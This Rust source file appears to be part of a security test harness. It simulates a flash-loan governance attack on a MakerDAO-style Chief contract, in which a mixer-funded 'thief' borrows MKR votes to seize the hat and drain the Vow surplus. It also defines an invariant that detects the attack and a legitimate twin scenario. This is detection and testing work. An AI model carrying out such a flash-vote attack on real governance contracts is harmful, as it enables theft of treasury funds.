//! Approval voting with what was borrowed for a moment: what B.Protocol showed possible in October 2020.

use alloy_dyn_abi::DynSolValue;
use anyhow::{Result, ensure};
use facts::{Address, U256};

use super::super::{
    cast::{CITIZENS, assault, issue, lender, paired, wrap},
    declare::Invariant,
    props::{allow, held, out_of_a_mixer, whom},
};
use crate::{Arg as _, Scenario, Stage, Tuple, WETH, args, ether};

pub(super) const BORROWED_HAT: Scenario = Scenario {
    id: "governance/flash-vote/borrowed-hat",
    about: "whoever has most votes behind him wears the hat from that moment on, and the hat decides over the surplus; a \
            contract stands for itself with borrowed votes",
    attack,
    twin,
};

const KIND: &str = "governance/flash-vote";

struct House {
    gov: Address,
    dai: Address,
    chief: Address,
    vow: Address,
    lender: Address,
    pool: Address,
}

fn house(stage: &mut Stage<'_>) -> Result<House> {
    let founder = stage.actor("founder");
    let mut holders = vec![(founder, stage.amount(ether(200_000)))];
    for name in CITIZENS.into_iter().chain(["whale"]) {
        let whole = if name == "whale" { 90_000 } else { 9_000 };
        holders.push((stage.actor(name), stage.amount(ether(whole))));
    }
    let gov = issue(stage, founder, "MKR", 18, &holders)?;
    let dai = issue(stage, founder, "DAI", 18, &[(founder, stage.amount(ether(60_000_000)))])?;
    let first = stage.actor("first hat");
    let chief = stage.deploy(founder, "Chief", args![gov, first])?;
    let vow = stage.deploy(founder, "Vow", args![chief, dai])?;
    stage.protect(chief, "chief");
    stage.protect(vow, "vow");
    let surplus = stage.amount(ether(50_000_000));
    stage.call(founder, dai, "transfer(address,uint256)", args![vow, surplus]);
    let (votes, coins) = (stage.amount(ether(10_000)), stage.amount(ether(5_000)));
    wrap(stage, founder, coins);
    let pool = paired(stage, founder, (gov, votes), (WETH, coins))?;
    let lender = lender(stage, founder, &[(gov, stage.amount(ether(150_000)))])?;
    stage.pass(1)?;
    for name in CITIZENS {
        let voter = stage.actor(name);
        allow(stage, voter, gov, chief);
        let wad = stage.amount(ether(8_000));
        stage.call(voter, chief, "lock(uint256)", args![wad]);
        stage.call(voter, chief, "vote(address)", args![first]);
        stage.pass(1)?;
    }
    // Votes do not go again within what they decide.
    let called = |what: &str| {
        format!(
            "tx.calls.exists(c, c.effective && c.to == address(\"{chief:#x}\") && c.selector == selector(\"{what}\"))"
        )
    };
    let broken = format!("{} && {}", called("lift(address)"), called("free(uint256)"));
    Invariant { id: "votes-stay", kind: KIND, on: "tx", broken, about: chief, asks: None }.declare(stage);
    Ok(House { gov, dai, chief, vow, lender, pool })
}

fn attack(stage: &mut Stage<'_>) -> Result<()> {
    let House { dai, vow, lender, pool, .. } = house(stage)?;
    let thief = out_of_a_mixer(stage, "thief", 1)?;
    let payee = stage.payee(thief);
    let (votes, surplus) = (stage.amount(ether(60_000)), held(stage, dai, vow)?);
    let (mut coins, parts) = (stage.amount(ether(60)).min(ether(9)), stage.variation.parts);
    // What the loan costs grows with it; a tenth of the pool's coins is far more than that.
    coins = coins.max(stage.amount(ether(40)));
    if stage.balance(thief)? < coins {
        stage.transfer(crate::EXCHANGE, thief, coins);
        stage.mine()?;
    }
    assault(stage, thief, "HatThief", |parts| {
        let plan: DynSolValue = Tuple(args![vow, votes, surplus / U256::from(parts), payee]).value();
        let run = "run(address,address,(address,uint256,uint256,address))";
        // The hat stays where it is: the loan is taken once.
        let sent = std::mem::take(&mut coins);
        (sent, run, vec![lender.value(), pool.value(), plan])
    })?;
    let left = held(stage, dai, vow)?;
    ensure!(left < U256::from(parts), "{left} is left");
    Ok(())
}

/// Somebody with many votes of his own locks them, votes, takes the hat to a grant and has it paid, in one go.
fn twin(stage: &mut Stage<'_>) -> Result<()> {
    let House { gov, dai, chief, vow, .. } = house(stage)?;
    let (whale, grantee) = (stage.actor("whale"), stage.stranger("grantee"));
    let ballot = stage.deploy(whale, "Ballot", args![])?;
    allow(stage, whale, gov, ballot);
    stage.pass(1)?;
    let grant = stage.amount(ether(6_000_000));
    let spell = stage.deploy(whale, "GrantSpell", args![vow, grantee, grant])?;
    stage.pass(2)?;
    let votes = stage.amount(ether(85_000));
    stage.call(whale, ballot, "carry(address,address,uint256)", args![chief, spell, votes]);
    stage.mine()?;
    ensure!(held(stage, dai, grantee)? == grant, "it was not paid");
    ensure!(whom(stage, chief, "hat()", args![])? == spell, "it has no hat");
    stage.wait(86_400);
    stage.pass(1)?;
    stage.call(whale, ballot, "home(address,address)", args![chief, whale]);
    stage.mine()?;
    Ok(())
}
